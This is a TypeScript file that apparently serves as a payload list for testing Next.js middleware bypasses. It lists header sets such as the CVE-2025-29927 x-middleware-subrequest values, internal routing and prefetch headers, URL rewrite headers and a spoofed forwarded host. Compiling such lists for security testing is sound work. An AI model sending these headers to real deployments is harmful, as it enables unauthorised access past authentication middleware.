/** Headers by which proxies and Next.js itself have been told that a request was checked already, or is another one. */

const five = (name: string): string => Array(5).fill(name).join(":")

export const headersOfBypasses: readonly Readonly<Record<string, string>>[] = [
  // CVE-2025-29927: middleware that had run was not run again.
  { "x-middleware-subrequest": five("proxy") },
  { "x-middleware-subrequest": five("middleware") },
  { "x-middleware-subrequest": five("src/middleware") },
  { "x-middleware-subrequest": five("src/proxy") },
  { "x-middleware-next": "1", "x-middleware-request-x": "1" },
  { "x-middleware-invoke": "1", "x-invoke-path": "/open", "x-invoke-status": "200" },
  { "x-nextjs-data": "1" },
  { rsc: "1" },
  { rsc: "1", "next-router-prefetch": "1" },
  { rsc: "1", "next-router-prefetch": "2", "next-router-segment-prefetch": "/_tree" },
  { rsc: "1", "next-router-state-tree": "%5B%22%22%2C%7B%7D%5D" },
  { "x-original-url": "/open", "x-rewrite-url": "/open" },
  { "x-forwarded-prefix": "/open", "x-forwarded-host": "evil.test", "x-forwarded-proto": "https" },
  { "x-matched-path": "/open", "x-now-route-matches": "1=open" },
  { "x-prerender-revalidate": "1", "x-prerender-bypass-mode": "static" },
  { "x-http-method-override": "OPTIONS" },
  { purpose: "prefetch", "sec-purpose": "prefetch" },
]
